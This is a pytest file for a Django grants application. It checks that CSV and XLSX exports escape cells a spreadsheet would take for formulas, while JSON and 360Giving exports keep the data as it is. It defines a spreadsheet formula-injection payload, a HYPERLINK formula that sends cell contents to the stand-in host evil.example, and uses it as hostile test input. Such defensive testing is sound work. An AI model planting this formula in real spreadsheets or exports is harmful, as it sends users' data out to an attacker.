"""Exports that cannot run code: every CSV and XLSX cell that a spreadsheet would take for a
formula is escaped; JSON and 360Giving keep the data as it is."""

import csv
import io
import json

import pytest
from django.contrib.auth.models import Group
from openpyxl import load_workbook

from grants import exports, roles
from grants.services.events import event_record
from grants.tasks.opendata import write_release
from tests import factories

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+46 8 123", "'+46 8 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Föreningen", "Föreningen"),
        ("", ""),
        (None, ""),
        (-500, -500),
        (12, 12),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def _csv(response, delimiter=","):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body), delimiter=delimiter))


@pytest.fixture
def evil_grant(db):
    (grant,) = factories.make_public_grants(1)
    org = grant.application.organisation
    org.name = EVIL
    org.save()
    return grant


def test_public_csv_escapes_a_formula_name_and_json_keeps_it(client, evil_grant):
    write_release()
    for path in ("/beviljade-bidrag.csv", "/beviljade-bidrag.csv?county=21"):  # file, stream
        rows = _csv(client.get(path))
        name_column = rows[0].index("Recipient Org:Name")
        assert rows[1][name_column] == "'" + EVIL
    data = b"".join(client.get("/beviljade-bidrag.json").streaming_content).decode()
    assert json.dumps(EVIL, ensure_ascii=False) in data
    assert json.dumps("'" + EVIL, ensure_ascii=False) not in data
    package = b"".join(client.get("/oppna-data/360giving.json").streaming_content).decode()
    assert "'=HYPERLINK" not in package


def test_open_data_page_says_how_csv_cells_are_escaped(client, db):
    html = client.get("/oppna-data/").content.decode()
    assert "apostrof" in html
    html = client.get("/en/oppna-data/").content.decode()
    assert "apostrophe" in html


@pytest.fixture
def evil_submitted(db, case_officer):
    from grants.services.applications import application_transition
    from grants.workflow import ApplicationStatus

    org = factories.make_organisation(name=EVIL)
    application = factories.make_application(organisation=org, project_title="-1+2")
    application_transition(application=application, to_status=ApplicationStatus.SUBMITTED)
    return application


def test_queue_csv_and_xlsx_escape_formulas(client, case_officer, evil_submitted):
    client.force_login(case_officer)
    response = client.get("/handlaggning/ko/export.csv")
    assert response["Cache-Control"] == "private, no-store"
    rows = _csv(response)
    assert "'" + EVIL in rows[1] and "'-1+2" in rows[1]
    response = client.get("/handlaggning/ko/export.xlsx")
    assert response["Cache-Control"] == "private, no-store"
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    evil = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert evil and all(c.data_type == "s" and c.value.startswith("'=") for c in evil)
    assert not [c for c in cells if c.data_type == "f"]


def test_audit_log_csv_escapes_formulas(client, evil_submitted):
    event_record(action="comment.added", target=EVIL)
    admin = factories.make_user(email="admin@example.org")
    admin.groups.add(Group.objects.get(name=roles.ADMINISTRATOR))
    client.force_login(admin)
    rows = _csv(client.get("/handlaggning/logg.csv"))
    assert [cell for row in rows for cell in row if "HYPERLINK" in cell] == ["'" + EVIL]


def test_writers_go_through_the_one_helper():
    """No view or module writes CSV or XLSX except grants.exports."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "grants"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py"
        and "migrations" not in path.parts
        and ("csv.writer" in (text := path.read_text()) or "Workbook(" in text)
    ]
    assert offenders == []


def test_csv_pieces_are_quoted_as_the_csv_writer_quotes_them():
    """grants/opendata.py joins pieces written by exports.csv_join and cells quoted by
    exports.csv_text: the line must be the one csv.writer writes."""
    import csv
    import io

    from grants import exports

    cells = [
        "",
        "plain",
        "a,b",
        'say "hi"',
        "two\nlines",
        "cr\rhere",
        "=1+1",
        "'x",
        " space ",
        "Å,ö",
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells)
    expected = buffer.getvalue()
    assert ",".join(exports.csv_text(cell) for cell in cells) + "\r\n" == expected
    assert exports.csv_join(cells) + "\r\n" == expected
